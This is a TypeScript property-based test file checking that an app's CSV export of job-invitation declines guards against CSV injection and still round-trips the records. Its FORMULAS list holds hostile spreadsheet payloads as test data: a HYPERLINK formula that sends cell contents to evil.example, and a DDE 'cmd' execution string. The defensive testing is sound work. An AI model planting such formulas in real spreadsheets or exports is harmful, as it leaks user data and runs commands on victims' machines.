// The record of declines leaves the browser only as a file the user downloads, and is opened in a
// spreadsheet: no cell from mail content may start a formula (CSV injection), and the file reads
// back to the same records, whatever the mail held.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type DeclineRecord, declinesToCsv, declinesToJson, parseDeclinesCsv, parseDeclinesJson } from '../../src/core/invitations';
import { parseCsv } from '../../src/core/invitations/csv';
import { REASON_IDS } from '../../src/core/types';
import { PAYLOADS } from './property-arbitraries';

const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1', '=1"",""=2', "'=1", "''@x", "'plain"];
const text = fc.oneof(fc.constantFrom(...FORMULAS, ...PAYLOADS, ''), fc.string({ unit: 'grapheme', maxLength: 80 }), fc.string({ unit: 'binary', maxLength: 40 }));
const iso = fc.integer({ min: 0, max: 4_102_444_800_000 }).map((t) => new Date(t).toISOString());
const record: fc.Arbitrary<DeclineRecord> = fc.record({
  declinedAt: iso,
  company: text,
  role: text,
  reasons: fc.subarray([...REASON_IDS]),
  otherReason: text,
  contact: text,
  subject: text,
  site: fc.constantFrom('gmail' as const, 'outlook' as const, 'generic' as const),
  link: text,
  receivedAt: fc.oneof(iso, fc.constant('')),
});

describe('decline record export with hostile content', () => {
  it('no CSV cell starts a spreadsheet formula', () => {
    fc.assert(
      fc.property(fc.array(record, { maxLength: 5 }), (records) => {
        const parsed = parseCsv(declinesToCsv(records));
        expect(parsed.ok).toBe(true);
        if (!parsed.ok) return;
        for (const row of parsed.rows.slice(1)) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 300 },
    );
  });

  it('a formula-looking company is written guarded, as text', () => {
    const csv = declinesToCsv([{ declinedAt: '2026-11-27T09:00:00.000Z', company: FORMULAS[0] as string, role: '', reasons: [], otherReason: '', contact: '', subject: '', site: 'gmail', link: '', receivedAt: '' }]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
  });

  it('CSV and JSON both read back to the records that were written', () => {
    fc.assert(
      fc.property(fc.array(record, { minLength: 1, maxLength: 5 }), (records) => {
        // Spreadsheets and the parser see text, and CR/LF inside a cell survive quoting.
        const csv = parseDeclinesCsv(declinesToCsv(records));
        const json = parseDeclinesJson(declinesToJson(records, Date.UTC(2026, 10, 27)));
        expect(json).toEqual({ ok: true, records });
        expect(csv.ok).toBe(true);
        if (csv.ok) {
          for (const k of ['company', 'role', 'otherReason', 'contact', 'subject', 'link'] as const) {
            expect(csv.records.map((r) => r[k])).toEqual(records.map((r) => r[k]));
          }
        }
      }),
      { numRuns: 200 },
    );
  });
});
